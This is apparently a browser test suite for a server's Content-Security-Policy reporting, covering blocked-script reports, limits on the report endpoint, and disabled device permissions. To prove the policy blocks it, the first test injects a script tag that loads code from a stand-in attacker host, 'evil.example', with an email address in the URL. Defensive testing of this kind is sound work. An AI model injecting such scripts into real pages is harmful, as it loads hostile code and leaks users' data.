/** A page's policy in a real browser: what it blocks is reported, and told to the server's owner alone. */
import { afterAll, beforeAll, expect, it } from 'vitest';
import { createStage, type Stage } from './stage.ts';

let stage: Stage;
beforeAll(async () => {
  stage = await createStage();
});
afterAll(() => stage[Symbol.asyncDispose]());

it('[A67, A68] what is brought into a page is blocked, reported, and shown to the owner', async () => {
  const page = await stage.open('/sign-in?next=%2Faccount');
  await page.getByRole('button', { name: 'Sign in' }).waitFor();
  const reported = page.waitForRequest((request) => request.url().endsWith('/api/v1/csp-reports'));
  await page.evaluate(() => {
    const script = document.createElement('script');
    script.src = 'https://evil.example/x.js?who=ann@example.com';
    document.head.append(script);
  });
  expect((await (await reported).response())?.status()).toBe(204);
  const answer = await fetch(`${stage.server.url}/api/v1/csp-reports`, {
    headers: { authorization: `OAuth ${stage.server.token}` },
  });
  const { reports } = (await answer.json()) as { reports: object[] };
  expect(reports).toMatchObject([
    { directive: 'script-src-elem', blocked: 'https://evil.example', page: '/sign-in', count: 1 },
  ]);
  const account = await stage.openSignedIn('/account');
  await account
    .getByRole('list', { name: 'Blocked on pages of this server' })
    .getByText('https://evil.example')
    .waitFor();
});

it('[A67] is bounded, and takes nothing else for a report', async () => {
  const send = (body: string, type = 'application/csp-report') =>
    fetch(`${stage.server.url}/api/v1/csp-reports`, {
      method: 'POST',
      headers: { 'content-type': type },
      body,
    });
  expect((await send('{"csp-report":{}}')).status).toBe(204);
  expect((await send('{')).status).toBe(400);
  expect([413, 400]).toContain((await send(`{"a":"${'x'.repeat(20_000)}"}`)).status);
  const statuses = new Set<number>();
  for (let count = 0; count < 40; count += 1) statuses.add((await send('{}')).status);
  expect(statuses).toEqual(new Set([204, 429]));
});

it('[A68] no page may use the camera, the place or a device, and no console warns of the policy', async () => {
  const warnings: string[] = [];
  const page = await stage.open('/sign-in');
  page.on('console', (message) => void warnings.push(message.text()));
  await page.reload();
  await page.getByRole('button', { name: 'Sign in' }).waitFor();
  expect(warnings.filter((text) => /policy/i.test(text))).toEqual([]);
  const allowed = await page.evaluate(() => {
    const { featurePolicy } = document as unknown as { featurePolicy: { allowedFeatures(): string[] } };
    return featurePolicy.allowedFeatures();
  });
  for (const name of ['camera', 'microphone', 'geolocation', 'payment', 'usb'])
    expect(allowed).not.toContain(name);
  expect(allowed).toContain('clipboard-write');
});
